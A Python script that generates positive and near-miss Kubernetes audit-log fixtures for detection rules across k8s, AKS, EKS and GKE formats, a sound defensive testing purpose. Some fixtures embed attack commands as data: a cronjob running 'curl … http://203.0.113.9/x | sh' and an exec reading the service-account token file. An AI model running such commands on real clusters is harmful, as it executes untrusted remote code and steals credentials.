#!/usr/bin/env python3
"""Writes the `kqlc test` fixtures of the starter pack (run from anywhere).

For each rule, a few Kubernetes audit events that it must find and a few
near misses it must pass over, written in the native format of each
platform where the signal exists: upstream Kubernetes (`k8s`, one event per
line), AKS diagnostic records (`aks`), EKS CloudWatch subscription payloads
(`eks`) and GKE Cloud Logging entries (`gke`). ARM activity logs carry no
Kubernetes API requests, so no rule here has an `arm` fixture. The expected
rows are computed here from the events (what each rule projects), not
copied from a detector's output. The shapes follow
tests/fixtures/formats/make-fixtures.py. Deterministic: run it again after
changing it.
"""
import json, pathlib, shutil, urllib.parse

HERE = pathlib.Path(__file__).resolve().parent

def compact(value):
    return json.dumps(value, separators=(",", ":"))

# -- events -----------------------------------------------------------------
ALICE = {"username": "alice@contoso.com", "groups": ["system:authenticated"]}
MALLORY = {"username": "mallory@contoso.com", "groups": ["system:authenticated"]}
APP_SA = {"username": "system:serviceaccount:web:frontend", "groups": ["system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated"]}
KUBELET = {"username": "system:node:node-1", "groups": ["system:nodes", "system:authenticated"]}
KCM = {"username": "system:kube-controller-manager", "groups": ["system:authenticated"]}
DS_CONTROLLER = {"username": "system:serviceaccount:kube-system:daemon-set-controller", "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}
NS_CONTROLLER = {"username": "system:serviceaccount:kube-system:namespace-controller", "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}
ANONYMOUS = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
KUBECTL = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
IP = "198.51.100.77"

GROUP_PATH = {"": "api", }
PLURAL_KIND = {"pods": "Pod", "deployments": "Deployment", "daemonsets": "DaemonSet", "cronjobs": "CronJob",
               "clusterrolebindings": "ClusterRoleBinding", "rolebindings": "RoleBinding", "clusterroles": "ClusterRole",
               "roles": "Role", "mutatingwebhookconfigurations": "MutatingWebhookConfiguration",
               "validatingwebhookconfigurations": "ValidatingWebhookConfiguration", "serviceaccounts": "TokenRequest",
               "secrets": "Secret", "events": "Event"}

class Ev:
    """One audit event: what it is, and how each format writes it."""
    def __init__(self, second, verb, resource, name=None, namespace=None, user=MALLORY, code=200, group="",
                 subresource=None, request=None, uri=None, command=None, version="v1"):
        self.second, self.verb, self.resource, self.name, self.namespace = second, verb, resource, name, namespace
        self.user, self.code, self.group, self.subresource, self.request = user, code, group, subresource, request
        self.command, self.version, self.uri = command, version, uri

    def stamp(self):
        return f"2024-05-28T10:{self.second // 60:02d}:{self.second % 60:02d}Z"

    def path(self):
        """The resource's path: GROUP/VERSION[/namespaces/NS]/RESOURCE[/NAME[/SUB]]."""
        parts = [self.group or "core", self.version]
        if self.namespace:
            parts += ["namespaces", self.namespace]
        parts.append(self.resource)
        if self.name:
            parts.append(self.name)
        if self.subresource:
            parts.append(self.subresource)
        return "/".join(parts)

    def request_uri(self):
        if self.uri is not None:
            return self.uri
        prefix = "/api/" if not self.group else "/apis/"
        path = self.path()
        path = path[len("core/"):] if not self.group else path
        uri = prefix + path
        if self.command:
            uri += "?" + "&".join("command=" + urllib.parse.quote(w, safe="") for w in self.command) + "&container=app"
        return uri

    def k8s(self, n):
        e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request" if self.request else "Metadata",
             "auditID": f"5e0a7d2c-1b3f-4c6d-8e9f-{n:012d}",
             "stage": "ResponseStarted" if self.code == 101 else "ResponseComplete",
             "requestURI": self.request_uri(), "verb": self.verb, "user": self.user, "sourceIPs": [IP],
             "userAgent": KUBECTL}
        if self.uri is None:
            ref = {"resource": self.resource}
            for key, value in (("namespace", self.namespace), ("name", self.name), ("apiGroup", self.group or None),
                               ("apiVersion", self.version), ("subresource", self.subresource)):
                if value:
                    ref[key] = value
            e["objectRef"] = ref
        e["responseStatus"] = {"metadata": {}, "code": self.code}
        if self.request is not None:
            e["requestObject"] = self.request
        e["requestReceivedTimestamp"] = self.stamp().replace("Z", ".000000Z")
        e["stageTimestamp"] = self.stamp()
        e["annotations"] = {"authorization.k8s.io/decision": "allow" if self.code < 400 else "forbid",
                            "authorization.k8s.io/reason": ""}
        return e

    def gke(self, n):
        if self.uri is None:
            group = self.group.replace(".k8s.io", "") if self.group else "core"
            method_group = group if group == "core" else ".".join(reversed(group.split(".")))
            method = ["io.k8s", method_group, self.version, self.resource] + ([self.subresource] if self.subresource else [])
            resource_name = self.path()
        else:
            method, resource_name = ["io.k8s"], self.uri.strip("/")
        method.append(self.verb)
        grpc = {101: 0, 200: 0, 201: 0, 401: 16, 403: 7, 404: 5}[self.code]
        payload = {"@type": "type.googleapis.com/google.cloud.audit.AuditLog",
                   "authenticationInfo": {"principalEmail": self.user["username"]},
                   "authorizationInfo": [{"granted": grpc == 0, "permission": ".".join(method), "resource": resource_name}],
                   "methodName": ".".join(method),
                   "requestMetadata": {"callerIp": IP, "callerSuppliedUserAgent": KUBECTL},
                   "resourceName": resource_name, "serviceName": "k8s.io", "status": {"code": grpc}}
        request = self.request
        if self.command:
            request = {"@type": "core/v1.PodExecOptions", "command": self.command, "container": "app"}
        if request is not None:
            payload["request"] = request
        insert = f"9c2d4e6f-0a1b-4c3d-8e5f-{n:012d}"
        writes = self.verb not in ("get", "list", "watch")
        return {"insertId": insert, "labels": {"authorization.k8s.io/decision": "allow" if self.code < 400 else "forbid"},
                "logName": "projects/contoso-prod/logs/cloudaudit.googleapis.com%2F" + ("activity" if writes else "data_access"),
                "operation": {"first": True, "id": insert, "last": True, "producer": "k8s.io"},
                "protoPayload": payload, "receiveTimestamp": self.stamp().replace("Z", ".512345678Z"),
                "resource": {"labels": {"cluster_name": "gke-prod", "location": "us-central1", "project_id": "contoso-prod"},
                             "type": "k8s_cluster"},
                "timestamp": self.stamp()}

AKS_ID = "/SUBSCRIPTIONS/3F2A9C1E-7B4D-4E8A-9C61-0D5E2F8A1B47/RESOURCEGROUPS/RG-AKS-PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD"

def aks(e):
    return {"category": "kube-audit" if e["verb"] in ("get", "list", "watch") else "kube-audit-admin",
            "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
            "properties": {"log": compact(e), "pod": "kube-apiserver-6f7c9d8b5-qz2xk", "stream": "stdout"},
            "resourceId": AKS_ID, "serviceBuild": "na", "time": e["stageTimestamp"].replace("Z", ".91Z")}

def eks(events):
    return {"messageType": "DATA_MESSAGE", "owner": "111122223333", "logGroup": "/aws/eks/eks-prod/cluster",
            "logStream": "kube-apiserver-audit-5f8e3c2a1b0d9e7f6a5b4c3d2e1f0a9b",
            "subscriptionFilters": ["eks-audit-to-firehose"],
            "logEvents": [{"id": f"37920384765123409870{i:02d}", "timestamp": 1716890400000, "message": compact(e)}
                          for i, e in enumerate(events)]}

FORMATS = {
    # name: (DataSource, file extension, events -> text)
    "k8s": ("Kubernetes Audit", lambda evs: "".join(compact(e.k8s(i)) + "\n" for i, e in enumerate(evs))),
    "aks": ("Azure Kubernetes Service", lambda evs: "".join(compact(aks(e.k8s(i))) + "\n" for i, e in enumerate(evs))),
    "eks": ("Amazon Elastic Kubernetes Service", lambda evs: compact(eks([e.k8s(i) for i, e in enumerate(evs)])) + "\n"),
    "gke": ("Google Kubernetes Engine", lambda evs: "".join(compact(e.gke(i)) + "\n" for i, e in enumerate(evs))),
}

# -- what each rule projects --------------------------------------------------
def base(e, source):
    return {"Timestamp": e.stamp(), "DataSource": source, "OperationName": e.verb,
            "Username": e.user["username"], "IPAddress": IP, "UserAgent": KUBECTL,
            "Namespace": e.namespace or "", "Resource": e.resource if e.uri is None else "",
            "Subresource": e.subresource or "", "Name": e.name or "", "Code": e.code}

def spec_of(e):
    spec = (e.request or {}).get("spec", {})
    return spec.get("template", {}).get("spec", spec)

def extra_exec(e, fmt):
    return {"Command": " ".join(e.command or [])}

def extra_privileged(e, fmt):
    spec = spec_of(e)
    containers = spec.get("containers", []) + spec.get("initContainers", [])
    return {"Privileged": any(c.get("securityContext", {}).get("privileged") is True for c in containers),
            "HostPath": any("hostPath" in v for v in spec.get("volumes", []))}

def extra_hostns(e, fmt):
    spec = spec_of(e)
    return {"HostNetwork": spec.get("hostNetwork") is True, "HostPID": spec.get("hostPID") is True,
            "HostIPC": spec.get("hostIPC") is True}

def extra_subjects(e, fmt):
    return {"Subjects": e.request.get("subjects")}

def extra_path(e, fmt):
    return {"Path": e.request_uri().split("?")[0]}

def extra_schedule(e, fmt):
    return {"Schedule": e.request["spec"]["schedule"]}

def pod(name, namespace, containers, **spec):
    spec = dict(spec)
    spec["containers"] = containers
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": namespace}, "spec": spec}

def deployment(name, namespace, pod_spec):
    return {"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": name, "namespace": namespace},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": name}},
                     "template": {"metadata": {"labels": {"app": name}}, "spec": pod_spec}}}

def daemonset(name, namespace, pod_spec):
    d = deployment(name, namespace, pod_spec)
    d["kind"] = "DaemonSet"
    del d["spec"]["replicas"]
    return d

BUSYBOX = {"name": "app", "image": "busybox:1.36"}
PRIV = {"name": "app", "image": "alpine:3.19", "securityContext": {"privileged": True}}
UNPRIV = {"name": "app", "image": "alpine:3.19", "securityContext": {"privileged": False, "runAsNonRoot": True}}

def binding(kind, name, role, namespace=None):
    meta = {"name": name}
    if namespace:
        meta["namespace"] = namespace
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": meta,
            "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "mallory@contoso.com"}],
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}}

def role(kind, name, rules):
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name}, "rules": rules}

def webhook(kind, name):
    hook = {"name": f"{name}.example.com", "clientConfig": {"url": "https://203.0.113.9/mutate"},
            "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
            "sideEffects": "None", "admissionReviewVersions": ["v1"]}
    return {"kind": kind, "apiVersion": "admissionregistration.k8s.io/v1", "metadata": {"name": name}, "webhooks": [hook]}

def cronjob(name, namespace, schedule):
    return {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": namespace},
            "spec": {"schedule": schedule, "jobTemplate": {"spec": {"template": {"spec": {
                "containers": [{"name": "job", "image": "curlimages/curl:8.7.1", "command": ["sh", "-c", "curl -s http://203.0.113.9/x | sh"]}],
                "restartPolicy": "OnFailure"}}}}}}

RBAC = "rbac.authorization.k8s.io"
ADM = "admissionregistration.k8s.io"

# Each rule: (file stem, extra columns, positives, negatives).
RULES = [
    ("exec-attach", extra_exec, [
        Ev(60, "create", "pods", "coredns-5d78c9869d-x7k2p", "kube-system", subresource="exec", code=101,
           command=["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"]),
        Ev(120, "create", "pods", "frontend-7d9f8-abcde", "web", user=ALICE, subresource="attach", code=101),
    ], [
        # Refused, and a pod's log (not a session).
        Ev(60, "create", "pods", "coredns-5d78c9869d-x7k2p", "kube-system", subresource="exec", code=403, command=["sh"]),
        Ev(120, "get", "pods", "frontend-7d9f8-abcde", "web", user=ALICE, subresource="log"),
    ]),
    ("privileged-or-hostpath-pod", extra_privileged, [
        Ev(60, "create", "pods", "node-shell", "default", code=201,
           request=pod("node-shell", "default", [BUSYBOX, PRIV])),
        Ev(120, "create", "deployments", "log-reader", "web", group="apps", code=201,
           request=deployment("log-reader", "web", {"containers": [BUSYBOX],
                                                      "volumes": [{"name": "host", "hostPath": {"path": "/"}}]})),
    ], [
        Ev(60, "create", "pods", "debug", "web", code=201, request=pod("debug", "web", [UNPRIV],
                                                                          volumes=[{"name": "tmp", "emptyDir": {}}])),
        # The daemon-set controller's pods, and a refused create.
        Ev(120, "create", "pods", "fluentd-x2k9q", "kube-system", user=DS_CONTROLLER, code=201,
           request=pod("fluentd-x2k9q", "kube-system", [PRIV])),
        Ev(180, "create", "pods", "node-shell", "default", code=403, request=pod("node-shell", "default", [PRIV])),
    ]),
    ("host-namespaces-pod", extra_hostns, [
        Ev(60, "create", "pods", "nsenter", "default", code=201,
           request=pod("nsenter", "default", [BUSYBOX], hostPID=True, hostIPC=True)),
        Ev(120, "create", "daemonsets", "sniffer", "web", group="apps", code=201,
           request=daemonset("sniffer", "web", {"containers": [BUSYBOX], "hostNetwork": True})),
    ], [
        Ev(60, "create", "pods", "web-1", "web", code=201, request=pod("web-1", "web", [BUSYBOX], hostNetwork=False)),
        Ev(120, "create", "pods", "kube-proxy-abcde", "kube-system", user=DS_CONTROLLER, code=201,
           request=pod("kube-proxy-abcde", "kube-system", [BUSYBOX], hostNetwork=True)),
    ]),
    ("cluster-admin-binding", extra_subjects, [
        Ev(60, "create", "clusterrolebindings", "break-glass", group=RBAC, code=201,
           request=binding("ClusterRoleBinding", "break-glass", "cluster-admin")),
        Ev(120, "create", "rolebindings", "web-admin", "web", group=RBAC, code=201,
           request=binding("RoleBinding", "web-admin", "cluster-admin", "web")),
    ], [
        Ev(60, "create", "clusterrolebindings", "viewers", group=RBAC, code=201,
           request=binding("ClusterRoleBinding", "viewers", "view")),
        Ev(120, "create", "clusterrolebindings", "break-glass", group=RBAC, code=403,
           request=binding("ClusterRoleBinding", "break-glass", "cluster-admin")),
    ]),
    ("wildcard-role", None, [
        Ev(60, "create", "clusterroles", "ops-all", group=RBAC, code=201,
           request=role("ClusterRole", "ops-all", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])),
        Ev(120, "update", "clusterroles", "secret-reader", group=RBAC,
           request=role("ClusterRole", "secret-reader", [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]}])),
    ], [
        Ev(60, "create", "clusterroles", "pod-reader", group=RBAC, code=201,
           request=role("ClusterRole", "pod-reader", [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}])),
        # The API server reconciling its own cluster-admin role at start-up.
        Ev(120, "update", "clusterroles", "cluster-admin", group=RBAC, user={"username": "system:apiserver", "groups": ["system:masters"]},
           request=role("ClusterRole", "cluster-admin", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])),
    ]),
    ("secrets-access", None, [
        Ev(60, "list", "secrets", None, "kube-system", user=APP_SA),
        Ev(120, "get", "secrets", "db-password", "web", user=ALICE),
    ], [
        Ev(60, "get", "secrets", "default-token", "web", user=KUBELET),
        Ev(120, "list", "secrets", None, "kube-system", user=KCM),
        Ev(180, "get", "secrets", "db-password", "web", user=APP_SA, code=403),
        Ev(240, "get", "configmaps", "app-config", "web", user=ALICE),
    ]),
    ("admission-webhook-change", None, [
        Ev(60, "create", "mutatingwebhookconfigurations", "pod-injector", group=ADM, code=201,
           request=webhook("MutatingWebhookConfiguration", "pod-injector")),
        Ev(120, "delete", "validatingwebhookconfigurations", "gatekeeper-validating-webhook-configuration", group=ADM),
    ], [
        Ev(60, "get", "validatingwebhookconfigurations", "gatekeeper-validating-webhook-configuration", group=ADM),
        Ev(120, "delete", "validatingwebhookconfigurations", "gatekeeper-validating-webhook-configuration", group=ADM, code=403),
    ]),
    ("serviceaccount-token", None, [
        Ev(60, "create", "serviceaccounts", "default", "kube-system", subresource="token", code=201,
           request={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"expirationSeconds": 315360000}}),
    ], [
        # The kubelet's projected-volume tokens, and a read of the service account.
        Ev(60, "create", "serviceaccounts", "frontend", "web", user=KUBELET, subresource="token", code=201,
           request={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"expirationSeconds": 3607}}),
        Ev(120, "get", "serviceaccounts", "default", "kube-system", user=ALICE),
    ]),
    ("anonymous-access", extra_path, [
        Ev(60, "list", "secrets", None, "default", user=ANONYMOUS),
        Ev(120, "get", "pods", "frontend-7d9f8-abcde", "web", user=ANONYMOUS),
    ], [
        Ev(60, "get", "", uri="/version", user=ANONYMOUS),
        Ev(120, "list", "secrets", None, "default", user=ANONYMOUS, code=403),
        Ev(180, "list", "secrets", None, "default", user=ALICE),
    ]),
    ("cronjob-persistence", extra_schedule, [
        Ev(60, "create", "cronjobs", "backup", "web", group="batch", code=201, request=cronjob("backup", "web", "*/5 * * * *")),
    ], [
        Ev(60, "get", "cronjobs", "backup", "web", group="batch"),
        Ev(120, "create", "jobs", "backup-28612345", "web", group="batch", user=KCM, code=201, request=None),
        Ev(180, "create", "cronjobs", "backup", "web", group="batch", code=403, request=cronjob("backup", "web", "*/5 * * * *")),
    ]),
    ("events-deleted", None, [
        Ev(60, "deletecollection", "events", None, "web"),
        Ev(120, "delete", "events", "frontend-7d9f8-abcde.17d3c5e0a1b2c3d4", "web", group="events.k8s.io"),
    ], [
        Ev(60, "deletecollection", "events", None, "old-project", user=NS_CONTROLLER),
        Ev(120, "list", "events", None, "web"),
    ]),
    ("ephemeral-container", None, [
        Ev(60, "patch", "pods", "frontend-7d9f8-abcde", "web", subresource="ephemeralcontainers",
           request={"spec": {"ephemeralContainers": [{"name": "debugger-x7k2p", "image": "nicolaka/netshoot", "targetContainerName": "app"}]}}),
    ], [
        Ev(60, "patch", "pods", "frontend-7d9f8-abcde", "web",
           request={"metadata": {"labels": {"debug": "true"}}}),
        Ev(120, "patch", "pods", "frontend-7d9f8-abcde", "web", subresource="ephemeralcontainers", code=403,
           request={"spec": {"ephemeralContainers": [{"name": "debugger-x7k2p", "image": "nicolaka/netshoot"}]}}),
    ]),
]

counts = {}
for stem, extra, positives, negatives in RULES:
    folder = HERE / f"{stem}.tests"
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir()
    for fmt, (source, write) in FORMATS.items():
        for kind, events, matching in (("positive", positives, positives), ("negative", negatives, [])):
            (folder / f"{fmt}-{kind}.input.jsonl").write_text(write(events))
            rows = []
            for e in matching:
                row = base(e, source)
                if extra:
                    row.update(extra(e, fmt))
                rows.append(compact(row) + "\n")
            (folder / f"{fmt}-{kind}.expected.jsonl").write_text("".join(rows))
            counts[fmt] = counts.get(fmt, 0) + 1
print(", ".join(f"{fmt}: {n} tests" for fmt, n in counts.items()))
